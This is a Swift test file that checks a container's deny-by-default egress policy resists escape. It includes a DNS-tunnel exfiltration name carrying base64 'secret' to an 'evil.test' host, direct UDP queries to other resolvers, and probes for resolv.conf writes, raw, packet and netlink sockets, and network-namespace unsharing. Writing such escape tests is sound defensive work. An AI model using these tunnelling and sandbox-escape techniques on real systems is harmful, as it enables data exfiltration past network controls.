import Foundation
import Testing

/// Ways around a deny-by-default egress policy in bridge mode, all inside
/// the test's own network namespaces. Covered elsewhere: the metadata and
/// host addresses (`NetworkTests.metadataAndHostAddressesStayBlockedUnderAnAllowAll`),
/// rewriting the rules (`.theWorkloadCannotChangeItsEgressRules`), IPv6 under
/// an IPv4-only policy (`.ipv6ReachesOutThroughTheBridgeAndObeysTheEgressRules`).
@Suite(.serialized) struct EgressEscapeTests {
    static func policy(_ mode: EscapeMode) -> [String] {
        mode.flags + [
            "--dns", NetworkWorld.resolver, "--egress-domain", "api.test", "--egress-allow", "203.0.113.10/32",
        ]
    }

    /// DNS goes only to the forwarder, and from it only to the configured
    /// resolver: a query sent straight to another server is rejected, and a
    /// name outside the list (a tunnel's carrier) never leaves the container.
    @Test(arguments: EscapeMode.allCases) func dnsCannotBeUsedAsAWayOut(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        try world.setRecords(["api.test 60 203.0.113.11"])
        let tunnel = "c2VjcmV0.exfil.evil.test"
        let run = try world.probe(
            ["udp", "203.0.113.11", "53", "udp", "203.0.113.10", "53", "resolve", tunnel, "resolve", "api.test"],
            flags: Self.policy(mode))
        #expect(run.stdout.lines == ["unreachable", "refused", "nxdomain", "addresses 203.0.113.11"], "\(run.stderr)")
        #expect(world.queries.allSatisfy { !$0.contains("evil") }, "the tunnelled name never left: \(world.queries)")
        #expect(world.queries.contains("api.test"))
    }

    /// The resolver configuration and the socket families that would
    /// bypass the rules are out of the workload's reach.
    @Test(arguments: EscapeMode.allCases) func resolverFileAndRawSocketsAreOutOfReach(mode: EscapeMode) throws {
        let world = try NetworkWorld()
        defer { world.close() }
        let result = try world.nucleus(
            ["run", "--network", "bridge", "--volume", "\(Probe.directory):/probe:ro"] + Self.policy(mode) + [
                "--", "/probe/probe", "open-write:/etc/resolv.conf", "socket-raw", "socket-packet",
                "socket-netlink-audit", "unshare-net",
            ])
        #expect(
            result.stdout.lines == [
                "open-write:/etc/resolv.conf=\(Errno.erofs)", "socket-raw=1", "socket-packet=1",
                "socket-netlink-audit=1", "unshare-net=1",
            ], "\(mode.rawValue): \(result.stderr)")
    }
}
